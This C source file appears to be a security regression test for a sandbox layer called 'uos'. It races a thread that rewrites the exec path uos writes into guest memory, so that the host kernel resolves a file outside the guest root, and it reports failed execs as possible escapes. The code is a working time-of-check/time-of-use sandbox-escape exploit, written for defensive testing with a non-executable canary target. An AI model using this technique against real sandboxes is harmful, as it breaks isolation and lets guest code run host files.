/*
 * exec_path_race exec|vfork TARGET MAX [N BAD]: rewrite the path of the
 * execve uos injects.
 *
 * Attack: for a guest execve, uos maps an anonymous region in the guest,
 * writes the host path of its exec stub there (/proc/<uos>/fd/<stub>) with
 * argv and envp, and has the guest's thread run execve on it.  The region
 * is the guest's own memory.  A sibling thread predicts where it goes (the
 * main thread maps and unmaps a region of the same size just before, so the
 * kernel hands out the same address again), waits until it is mapped
 * (mincore, which the host answers without a stop) and then rewrites the
 * path with TARGET in a tight loop, while
 *   exec: the main thread execs this program again, MAX times in all (each
 *     image makes one exec; N counts them and BAD counts the failed ones);
 *   vfork: the main thread vforks MAX times and the child execs this
 *     program (which exits at once): the memory is the parent's, and the
 *     rewriting thread is not even in the exec'ing process.
 *
 * Escape: the host kernel resolves TARGET, a host file outside the guest's
 * root (the canary, not executable): the guest's execve fails with EACCES
 * although uos had checked the program (a failed exec of this program can
 * have no other cause); with an executable TARGET the host would load it.
 *
 * Prints one line per failed exec and a summary; exits 1 when an exec
 * failed.  The script checks the host side (exec_path_race.sh).
 */
#include "sec.h"

#include <pthread.h>
#include <setjmp.h>
#include <sys/wait.h>

/* stage_stub_exec's region: path (64), one 64 KiB env chunk, argv and envp vectors. */
#define STAGE_LEN (65536 + 64 + 4 * sizeof(unsigned long))

extern char **environ;
static const char *target;
static size_t target_len;
static char *volatile where;

/*
 * The region can go between the rewriter's mincore and its copy (the main
 * thread maps and unmaps it to predict the address): the rewriter's own
 * fault then starts its loop again, and kills nothing.
 */
static __thread sigjmp_buf rewrite_fault;
static __thread volatile int rewriting;

static void on_segv(int sig)
{
	if (rewriting)
		siglongjmp(rewrite_fault, 1);
	signal(sig, SIG_DFL); /* anyone else's fault is a crash */
}

static void *rewriter(void *arg)
{
	unsigned char vec[1];
	(void)arg;
	sigsetjmp(rewrite_fault, 1);
	rewriting = 1;
	for (;;) {
		char *at = where;
		if (at && rsys3(SYS_mincore, at, 4096, vec) == 0)
			memcpy(at, target, target_len);
	}
	return NULL;
}

static void *predict(void)
{
	void *p = mmap(NULL, STAGE_LEN, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (p == MAP_FAILED)
		return NULL;
	munmap(p, STAGE_LEN);
	return p;
}

/* vfork MAX times; each child execs this program, which exits 0 at once. */
static int run_vfork(const char *self, long max)
{
	volatile long bad = 0;
	for (volatile long n = 0; n < max; n++) { /* volatile: vfork's child shares the frame */
		char *nargv[] = {(char *)self, "exit", NULL};
		where = predict();
		pid_t c = vfork();
		if (c == 0) {
			execve(self, nargv, environ);
			_exit(100 + errno);
		}
		where = NULL;
		int st = 0;
		if (c < 0 || waitpid(c, &st, 0) != c || !WIFEXITED(st) || WEXITSTATUS(st) != 0) {
			int e = WIFEXITED(st) ? WEXITSTATUS(st) - 100 : 0;
			if (bad++ < 5)
				say("exec %ld: ESCAPE? the vfork child's execve failed with %s (status %#x)\n",
				    n, e > 0 ? strerrorname_np(e) : "?", st);
		}
	}
	say("exec_path_race: %ld execs, %ld failed\n", max, bad);
	return bad ? 1 : 0;
}

int main(int argc, char **argv)
{
	if (argc == 2 && strcmp(argv[1], "exit") == 0)
		return 0;
	if (argc != 4 && argc != 6) {
		fprintf(stderr, "usage: exec_path_race exec|vfork TARGET MAX [N BAD]\n");
		return 2;
	}
	target = argv[2];
	target_len = strlen(target) + 1;
	long max = atol(argv[3]), n = argc == 6 ? atol(argv[4]) : 0;
	long bad = argc == 6 ? atol(argv[5]) : 0;
	if (n >= max) {
		say("exec_path_race: %ld execs, %ld failed\n", n, bad);
		return bad ? 1 : 0;
	}
	pthread_t th;
	signal(SIGSEGV, on_segv);
	if (pthread_create(&th, NULL, rewriter, NULL)) {
		fprintf(stderr, "exec_path_race: pthread_create failed\n");
		return 2;
	}
	if (strcmp(argv[1], "vfork") == 0)
		return run_vfork(argv[0], max);
	for (;;) {
		char nbuf[32], badbuf[32];
		snprintf(nbuf, sizeof(nbuf), "%ld", n + 1);
		snprintf(badbuf, sizeof(badbuf), "%ld", bad);
		char *nargv[] = {argv[0], argv[1], argv[2], argv[3], nbuf, badbuf, NULL};
		where = predict();
		execve(argv[0], nargv, environ);
		int e = errno;
		where = NULL;
		if (bad++ < 5)
			say("exec %ld: ESCAPE? execve failed with %s (the host resolved another path)\n",
			    n, strerrorname_np(e));
		if (++n >= max) {
			say("exec_path_race: %ld execs, %ld failed\n", n, bad);
			return 1;
		}
	}
}
